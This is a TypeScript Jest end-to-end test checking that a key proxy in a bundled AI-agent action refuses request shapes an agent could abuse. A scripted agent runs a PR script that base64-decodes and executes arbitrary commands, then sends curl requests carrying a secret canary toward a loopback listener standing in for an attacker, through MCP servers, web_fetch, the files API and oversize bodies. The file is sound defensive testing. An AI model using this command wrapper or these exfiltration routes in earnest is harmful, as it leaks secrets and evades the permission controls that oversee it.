/**
 * Issue 9 item 3, end to end on the REAL CLI inside the BUNDLED action: the agent holds the per-run proxy
 * token (its ANTHROPIC_API_KEY) and, through a careless allow rule at `isolation: rules-only` (a PR script
 * that runs any command), sends its own requests to the key proxy: `mcp_servers` pointing at a listener
 * this test runs (with a canary in the URL) plus an `mcp-client-…` beta, a `web_fetch` server tool,
 * `container`, the files API, an oversize body. None may reach the upstream model server, the listener
 * must get nothing, each refusal must show in the job summary, and no canary may leave. A control request
 * of the allowed shape, sent the same way, IS forwarded: the refusals come from the shape, not the route.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { checkRequest } from '../../src/isolation/proxy/request-shape.js';
import { createPullRepo, toolResults, type ToolUse } from './support/index.mjs';
import {
  DEFAULT_BASE,
  DEFAULT_HEAD,
  leaks,
  scenarios,
  structured,
  type Scenario,
} from './support/scenario.js';

const go = scenarios();

/** A listener on loopback standing for the attacker's server: counts every connection. */
let listener: http.Server;
let listenerUrl = '';
let connections = 0;
beforeAll(async () => {
  listener = http.createServer((_req, res) => res.end('ok'));
  listener.on('connection', () => connections++);
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  listener.closeAllConnections();
  await new Promise((resolve) => listener.close(resolve));
});

const PROBE_PATH = 'tools/check.sh';
/** Where the agent writes its oversize body (a shell word, expanded by the agent's shell). */
const BIG = '"${TMPDIR:-/tmp}/big.json"';
/** The PR's script that a careless `Bash(./tools/check.sh:*)` rule lets the agent run: any command. */
const PROBE_SCRIPT = '#!/bin/bash\nbash -c "$(printf %s "$1" | base64 -d)" 2>&1\n';

/** A curl to the proxy with the agent's own token, printing `<id> http=<status>` and the response. */
function toProxy(
  id: string,
  o: { path?: string; body?: object; beta?: string; from?: string; extra?: string },
): string {
  const body = o.body === undefined ? '' : `printf %s '${JSON.stringify(o.body)}' | `;
  const data = o.from ?? (o.body === undefined ? '' : '--data-binary @-');
  return (
    `${body}curl -s -m 30 -w '\\n${id} http=%{http_code}\\n' -X POST "$ANTHROPIC_BASE_URL${o.path ?? '/v1/messages?beta=true'}" ` +
    `-H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' ` +
    `${o.beta ? `-H 'anthropic-beta: ${o.beta}' ` : ''}${o.extra ?? ''} ${data}`
  );
}

/** Requests the upstream model server got that the allow-list refuses (must be none). */
function refusedUpstream(s: Scenario): string[] {
  return s.model.requests.flatMap((r) => {
    const d = checkRequest({
      method: r.method,
      target: r.url,
      headers: r.headers,
      body: Buffer.from(typeof r.body === 'string' ? r.body : JSON.stringify(r.body)),
    });
    return d.allowed ? [] : [`${r.method} ${r.url}: ${d.reason}`];
  });
}

const message = (extra: object) => ({
  model: 'claude-sonnet-4-5',
  max_tokens: 64,
  messages: [{ role: 'user', content: 'Fetch the page and repeat it.' }],
  ...extra,
});

describe('the key proxy refuses every request shape the CLI does not send (rules-only, careless rule)', () => {
  test('mcp_servers, web_fetch, container, files API, oversize: refused, audited, nothing reaches upstream or the listener', async () => {
    const repo = createPullRepo({
      base: DEFAULT_BASE,
      head: { ...DEFAULT_HEAD, [PROBE_PATH]: PROBE_SCRIPT },
    });
    fs.chmodSync(path.join(repo.dir, PROBE_PATH), 0o755);
    let canary = '';
    const probes = (c: string): [string, string][] => {
      const url = `${listenerUrl}?d=${c}`;
      return [
        [
          'mcp',
          toProxy('mcp', {
            body: message({ mcp_servers: [{ type: 'url', url, name: 'docs' }] }),
            beta: 'mcp-client-2025-04-04',
          }),
        ],
        [
          'webfetch',
          toProxy('webfetch', {
            body: message({
              tools: [{ type: 'web_fetch_20250910', name: 'web_fetch', max_uses: 1 }],
              metadata: { user_id: url },
            }),
            beta: 'web-fetch-2025-09-10',
          }),
        ],
        ['container', toProxy('container', { body: message({ container: 'container_011CUyourcontainer' }) })],
        [
          'files',
          toProxy('files', {
            path: '/v1/files',
            beta: 'files-api-2025-04-14',
            extra: `-F 'file=@README.md'`,
          }),
        ],
        [
          'filedoc',
          toProxy('filedoc', {
            body: message({
              messages: [
                {
                  role: 'user',
                  content: [{ type: 'document', source: { type: 'file', file_id: 'file_011' } }],
                },
              ],
            }),
            beta: 'files-api-2025-04-14',
          }),
        ],
        [
          'oversize',
          `head -c 34000000 /dev/zero | tr '\\0' ' ' > ${BIG} && ${toProxy('oversize', { from: `--data-binary @${BIG}` })}; rm -f ${BIG}`,
        ],
        ['control', toProxy('control', { body: message({}) })],
      ];
    };
    const calls = (c: string): ToolUse[] =>
      probes(c).map(([id, command]) => ({
        id: `toolu_probe_${id}`,
        name: 'Bash',
        input: {
          command: `./${PROBE_PATH} ${Buffer.from(command).toString('base64')}`,
          description: 'Run the repository check',
        },
      }));

    const s = await go({
      repo,
      inputs: {
        isolation: 'rules-only',
        mode: 'custom',
        prompt: 'Run the repository checks in tools/ and report.',
        'allowed-tools': `Bash(./${PROBE_PATH}:*)`,
      },
      scriptWithSecrets: ({ canaries }) => {
        canary = canaries.DEPLOY_PASSWORD;
        return [{ toolUses: calls(canary) }, structured([], 'Checks run.')];
      },
      timeoutMs: 180_000,
    });

    // The probes ran as the agent and got the proxy's answers (so nothing below passes vacuously).
    const results = toolResults(s.model.requests);
    const output = (id: string) => results.find((r) => r.tool_use_id === `toolu_probe_${id}`)?.content ?? '';
    const statuses = Object.fromEntries(
      ['mcp', 'webfetch', 'container', 'files', 'filedoc', 'oversize', 'control'].map((id) => [
        id,
        /\bhttp=(\d+)/.exec(output(id).split(`${id} `).pop() ?? '')?.[1],
      ]),
    );
    expect(statuses).toEqual({
      mcp: '400',
      webfetch: '400',
      container: '400',
      files: '403',
      filedoc: '400',
      oversize: '413',
      control: '200',
    });
    expect(output('mcp')).toContain("value 'mcp-client-*' is not forwarded");

    // Nothing refused reached the upstream: every request it got is of the allowed shape.
    expect(refusedUpstream(s)).toEqual([]);
    expect(s.model.requests.some((r) => r.path === '/v1/files')).toBe(false);
    expect(connections).toBe(0);

    // The job summary says what was refused.
    for (const refusal of [
      "Key proxy refused POST /v1/messages?beta=true (HTTP 400): header 'anthropic-beta' value 'mcp-client-*' is not forwarded.",
      "(HTTP 400): header 'anthropic-beta' value 'web-fetch-*' is not forwarded.",
      "(HTTP 400): body field 'container' is not forwarded.",
      'Key proxy refused POST /v1/files (HTTP 403)',
      "(HTTP 400): header 'anthropic-beta' value 'files-api-*' is not forwarded.",
      'Key proxy refused POST /v1/messages?beta=true (HTTP 413): body over 33554432 bytes.',
    ])
      expect(s.run.summary).toContain(refusal);
    expect(s.run.summary).not.toContain(canary);
    expect(leaks(s)).toEqual([]);
    expect(s.run.post.code).toBe(0);
  }, 300_000);

  test('the same bodies without their betas are refused for the body itself (mcp_servers, web_fetch tool, file source)', async () => {
    // Without the beta header the check reaches the body: each dangerous field is named on its own.
    const repo = createPullRepo({
      base: DEFAULT_BASE,
      head: { ...DEFAULT_HEAD, [PROBE_PATH]: PROBE_SCRIPT },
    });
    fs.chmodSync(path.join(repo.dir, PROBE_PATH), 0o755);
    const url = `${listenerUrl}?d=x`;
    const bodies: [string, object][] = [
      ['mcp', message({ mcp_servers: [{ type: 'url', url, name: 'docs' }] })],
      ['webfetch', message({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] })],
      [
        'filedoc',
        message({
          messages: [
            { role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'f' } }] },
          ],
        }),
      ],
    ];
    const s = await go({
      repo,
      inputs: {
        isolation: 'rules-only',
        mode: 'custom',
        prompt: 'Run the repository checks in tools/ and report.',
        'allowed-tools': `Bash(./${PROBE_PATH}:*)`,
      },
      script: [
        {
          toolUses: bodies.map(([id, body]) => ({
            id: `toolu_probe_${id}`,
            name: 'Bash',
            input: { command: `./${PROBE_PATH} ${Buffer.from(toProxy(id, { body })).toString('base64')}` },
          })),
        },
        structured([], 'Checks run.'),
      ],
      timeoutMs: 180_000,
    });
    for (const refusal of [
      "(HTTP 400): body field 'mcp_servers' is not forwarded.",
      "(HTTP 400): tools[].type 'web_fetch_*' is not forwarded: only client tools (name, description, input_schema).",
      "(HTTP 400): messages[].content[].source.type value 'file' is not forwarded.",
    ])
      expect(s.run.summary).toContain(refusal);
    expect(refusedUpstream(s)).toEqual([]);
    expect(connections).toBe(0);
    expect(leaks(s)).toEqual([]);
  }, 300_000);
});
